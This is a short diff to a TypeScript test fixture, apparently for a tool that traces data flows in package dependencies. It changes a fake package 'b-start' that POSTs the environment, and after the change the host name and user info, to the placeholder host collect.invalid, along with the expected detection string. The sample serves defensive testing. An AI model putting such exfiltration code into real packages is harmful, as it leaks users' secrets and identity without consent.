@@ -135,9 +135,9 @@ const ATTACKS: Readonly<Record<string, readonly [Packages, string]>> = {
   'a payload that waits for somebody to start it': [
     {
       app: `require('b-start').init();`,
-      'b-start': `exports.init = () => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`,
+      'b-start': `const os = require('os'); exports.init = () => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify([os.hostname(), os.userInfo()]) });`,
     },
-    'environment>network@collect.invalid import b-start@1.0.0>b-start@1.0.0',
+    'host-identity>network@collect.invalid import b-start@1.0.0>b-start@1.0.0',
   ],
   'a third package that only hands on': [
     {
